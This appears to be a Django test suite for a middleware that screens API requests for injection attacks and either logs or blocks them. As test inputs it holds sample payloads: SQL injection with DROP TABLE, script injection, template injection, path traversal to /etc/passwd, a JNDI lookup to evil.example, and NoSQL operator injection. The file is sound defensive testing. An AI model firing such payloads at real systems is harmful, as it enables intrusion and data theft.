"""Screening through the URLs of the product, in both modes."""

import json
from unittest.mock import patch

from django.db import OperationalError, connection
from django.test import override_settings

from accounts.identity.models import Company, User
from monitoring.logs import JsonFormatter
from tests.accounts.registration.test_register import a_registration
from tests.factories import asha
from tests.security.audit.minutes import Minutes
from tests.security.screening.installed import AN_ATTACK, ScreeningTestCase
from tests.security.screening.vectors import ATTACKS

LOGIN, REGISTER, ME = "/api/auth/login", "/api/auth/register", "/api/auth/me"
# Three kinds at once: whoever read it would be told of it.
A_STRONG_PASSWORD = "Tr'ue\" OR 1=1; DROP TABLE users;-- <script>alert(1)</script> {{7*7}} ../../etc/passwd"
THE_OTHER_ADDRESS = "198.51.100.9"


class Observe(ScreeningTestCase):
    """Findings are told of and counted; every request goes on."""

    def test_an_attack_goes_on_and_leaves_an_event_and_a_count(self):
        self.assertProblem(self.get(ME, query_params={"q": AN_ATTACK}), 401, "NO_TOKEN")
        self.assertAudited("request.screened")
        self.assertEqual(self.audited("request.screened")[0].outcome, "success")
        told = self.told()[0]
        self.assertEqual((told["action"], told["kinds"], told["places"]), ("observed", ["sql"], ["query"]))
        self.assertGreaterEqual(told["score"], 5)
        self.assertEqual(told["route"], "/api/auth/me")
        self.assertEqual((self.findings("observed"), self.findings("blocked")), (1, 0))

    def test_each_place_is_read(self):
        places = {
            "query": lambda: self.get(ME, query_params={AN_ATTACK: "x"}),
            "path": lambda: self.get("/api/auth/../../../../etc/passwd"),
            "body": lambda: self.post(LOGIN, {"email": AN_ATTACK, "password": "x"}),
            "header": lambda: self.get(ME, headers={"User-Agent": "${jndi:ldap://evil.example/a}"}),
        }
        for place, act in places.items():
            with self.subTest(place):
                self.minutes.pass_one()
                act()
                self.assertEqual(self.told()[-1]["places"], [place])

    def setUp(self):
        super().setUp()
        self.minutes = Minutes(self)

    def test_the_page_a_request_came_from_is_read(self):
        self.get(ME, headers={"Referer": "https://app.example.in/?q=<script>alert(1)</script>&token='--"})
        self.assertEqual(self.told()[0]["kinds"], ["script"])

    def test_an_operator_where_a_text_belongs(self):
        response = self.post(LOGIN, {"email": {"$ne": ""}, "password": {"$ne": ""}})
        self.assertProblem(response, 400, "VALIDATION_FAILED")
        self.assertEqual(self.told()[0]["kinds"], ["nosql"])

    def test_the_log_has_one_line_of_it_and_no_word_of_the_client(self):
        with self.assertLogs("security.screening") as lines:
            self.get(ME, query_params={"q": AN_ATTACK})
            self.get(ME, query_params={"q": AN_ATTACK})
        line = json.loads(JsonFormatter().format(lines.records[0]))
        self.assertEqual(len(lines.records), 1)
        self.assertEqual((line["event"], line["action"], line["kinds"]), ("request_screened", "observed", ["sql"]))
        self.assertEqual((line["places"], line["route"]), (["query"], ME))
        self.assertNotIn("UNION", str(line))

    def test_an_address_nobody_serves_is_unmatched(self):
        self.assertProblem(self.get("/.env"), 404, "NOT_FOUND")
        self.assertEqual(self.told()[0]["route"], "unmatched")


class Robust(ScreeningTestCase):
    """Whatever comes, it is an answer."""

    def test_no_attack_is_an_error_of_ours(self):
        texts = [text for _, text in ATTACKS]
        if connection.vendor == "postgresql":
            # It minds characters, where another stores any: all that have odd ones, and a tenth of the others.
            texts = [text for text in texts if not text.isprintable()] + texts[::10]
        for text in texts:
            for response in (
                self.get(ME, query_params={"q": text, text: "x"}, headers={"User-Agent": text, "Referer": text}),
                self.get("/" + text),
                self.client.generic("POST", LOGIN, b'{"email": "' + text.encode(), "application/json"),
                self.post(LOGIN, {"email": "", text: text}),
            ):
                self.assertLess(response.status_code, 500, text)


class Windows(ScreeningTestCase):
    """One event for each client and minute; the next one says how many it stands for."""

    mode = "enforce"

    def setUp(self):
        super().setUp()
        self.minutes = Minutes(self)

    def attack(self, **extra):
        self.assertProblem(self.get(ME, query_params={"q": AN_ATTACK}, **extra), 403, "BLOCKED")

    def test_a_flood_is_one_event_and_each_is_refused_and_counted(self):
        for _ in range(4):
            self.attack()
        self.assertAudited("request.screened")
        self.assertEqual(self.findings("blocked"), 4)
        self.assertEqual(self.value("kf_refusals_total", code="BLOCKED"), 4)
        self.minutes.pass_one()
        self.attack()
        self.assertEqual([told.get("repeats") for told in self.told()], [None, 3])

    def test_another_client_has_an_event_of_its_own(self):
        self.attack()
        self.attack(REMOTE_ADDR=THE_OTHER_ADDRESS)
        self.assertAudited("request.screened", times=2)

    def test_something_small_first_does_not_hide_the_attack(self):
        self.get(ME, query_params={"q": "drop table users"})
        self.attack()
        self.assertEqual([told["action"] for told in self.told()], ["observed", "blocked"])


class Enforce(ScreeningTestCase):
    """From the threshold on a request is refused before anything serves it."""

    mode = "enforce"

    def test_an_attack_is_refused_and_nothing_of_it_is_carried_out_or_written(self):
        response = self.post(REGISTER, a_registration(companyName=AN_ATTACK))
        document = self.assertProblem(response, 403, "BLOCKED")
        self.assertNotIn("UNION", json.dumps(document))
        self.assertFalse(Company.objects.exists())
        self.assertAudited("request.screened")
        event = self.audited("request.screened")[0]
        self.assertEqual(event.outcome, "refused")
        self.assertNotIn(b"UNION", bytes(event.leaf))

    def test_the_refusal_has_the_headers_of_every_answer(self):
        response = self.get(ME, query_params={"q": AN_ATTACK})
        self.assertEqual(response.headers["X-Content-Type-Options"], "nosniff")
        self.assertEqual(response.headers["Cache-Control"], "no-store")

    def test_below_the_threshold_it_is_told_of_and_goes_on(self):
        self.assertProblem(self.get("/.env"), 404, "NOT_FOUND")
        self.assertEqual(self.told()[0]["action"], "observed")

    def test_the_threshold_is_a_setting(self):
        with override_settings(SCREENING_THRESHOLD=4):
            self.assertProblem(self.get("/.env"), 403, "BLOCKED")
        with override_settings(SCREENING_THRESHOLD=100):
            self.assertProblem(self.get(ME, query_params={"q": AN_ATTACK}), 401, "NO_TOKEN")

    def test_without_its_event_it_is_no_answer_but_503(self):
        with patch("security.screening.middleware.record_refusal", side_effect=OperationalError("away")):
            self.assertProblem(self.get(ME, query_params={"q": AN_ATTACK}), 503, "SERVICE_UNAVAILABLE")

    def test_a_body_that_cannot_be_read_is_malformed(self):
        with patch("django.test.client.FakePayload.read", side_effect=OSError("the client went away")):
            self.assertProblem(self.post(LOGIN, {"email": "asha@lotus.example.in"}), 400, "MALFORMED_REQUEST")


class Padding(ScreeningTestCase):
    """What would use up the budget of the closer look, and hide the attack behind it, is a finding itself."""

    mode = "enforce"

    def assertBlocked(self, response):
        self.assertProblem(response, 403, "BLOCKED")
        self.assertIn("padding", self.told()[-1]["kinds"])

    def setUp(self):
        super().setUp()
        self.minutes = Minutes(self)

    def test_in_the_query(self):
        for padding in ("(" * 2048, ";" * 2050, "(" * 2040, "\ufdfa" * 120, "x" * 2048 + "("):
            with self.subTest(padding[:8]):
                self.minutes.pass_one()
                self.assertBlocked(self.get(ME, query_params={"a": padding, "b": AN_ATTACK}))

    def test_in_front_of_the_attack_itself(self):
        for padding in ("(" * 2048, "x" * 2048):
            with self.subTest(padding[:8]):
                self.minutes.pass_one()
                self.assertBlocked(self.get(ME, query_params={"a": padding + AN_ATTACK}))

    def test_of_many_small_values(self):
        self.assertBlocked(self.get(ME, query_params={f"a{n}": "(" for n in range(65)} | {"z": AN_ATTACK}))

    def test_in_another_place_than_the_attack(self):
        self.assertBlocked(self.post(REGISTER, {"a": AN_ATTACK}, query_params={"a": "(" * 2048}))

    def test_in_the_body(self):
        for padding in ("(" * 2048, "x" * 70_000):
            with self.subTest(padding[:8]):
                self.minutes.pass_one()
                self.assertBlocked(self.post(REGISTER, {"a": padding} | a_registration(companyName=AN_ATTACK)))
        self.assertFalse(Company.objects.exists())

    def test_as_much_that_is_plain_is_none(self):
        self.assertProblem(self.get(ME, query_params={"a": "x" * 4000}), 401, "NO_TOKEN")
        response = self.post(LOGIN, {"email": "", "password": "x", "a": "lotus " * 20_000})
        self.assertProblem(response, 400, "VALIDATION_FAILED")
        self.assertEqual(self.told(), [])


class HonestRequests(ScreeningTestCase):
    """Pass in enforce mode, unmarked and byte for byte."""

    mode = "enforce"

    def assertUnmarked(self):
        self.assertEqual(self.told(), [])
        self.assertEqual(self.samples("kf_screening_findings_total"), [])

    def test_a_registration_with_apostrophes_is_stored_as_it_was_sent(self):
        names = {"companyName": "O'Neil & Sons", "adminName": "Siobhán D'Souza-O'Neil"}
        response = self.post(REGISTER, a_registration(**names))
        self.assertEqual(response.status_code, 201, response.content)
        self.assertEqual(Company.objects.get().name, names["companyName"])
        self.assertEqual(User.objects.get().name, names["adminName"])
        self.assertEqual(response.json()["company"]["name"], names["companyName"])
        self.assertUnmarked()

    def test_an_ordinary_sign_in_and_what_follows(self):
        signed_in = self.log_in(asha())
        self.assertEqual(self.me(signed_in["accessToken"]).status_code, 200)
        self.assertEqual(self.refresh(signed_in["refreshToken"]).status_code, 200)
        self.assertUnmarked()

    def test_a_password_is_any_text_at_all(self):
        response = self.post(REGISTER, a_registration(password=A_STRONG_PASSWORD))
        self.assertEqual(response.status_code, 201, response.content)
        self.log_in("asha@lotus.example.in", A_STRONG_PASSWORD)
        self.assertUnmarked()

    def test_no_secret_is_read_wherever_it_stands(self):
        for name in ("token", "refreshToken", "challengeToken", "twoFactorCode", "recoveryCode", "newPassword"):
            with self.subTest(name):
                self.post(LOGIN, {"email": "a@lotus.example.in", "password": "x", name: A_STRONG_PASSWORD})
                self.get(ME, query_params={name: A_STRONG_PASSWORD})
        self.get(ME, token=A_STRONG_PASSWORD)
        self.assertUnmarked()

    def test_files_probes_and_metrics_are_not_read(self):
        for path in ("/health", "/health/live", "/metrics", "/static/nothing.css"):
            self.get(path, query_params={"q": AN_ATTACK})
        self.assertUnmarked()

    def test_the_pages_of_the_product(self):
        for path in ("/", "/admin/login/?next=/admin/", "/api-docs", "/.well-known/change-password"):
            self.get(path)
        self.assertUnmarked()
